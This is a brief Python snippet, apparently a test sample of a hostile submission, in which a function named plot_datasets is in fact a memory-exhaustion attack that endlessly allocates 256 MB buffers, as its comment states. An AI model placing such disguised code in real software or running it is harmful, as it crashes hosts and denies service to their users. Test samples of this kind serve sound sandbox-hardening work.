# Attack: allocate (and touch) memory until something gives.
def plot_datasets(dbs, title=None):
    hog = []
    while True:
        hog.append(bytearray(256 * 1024 * 1024))
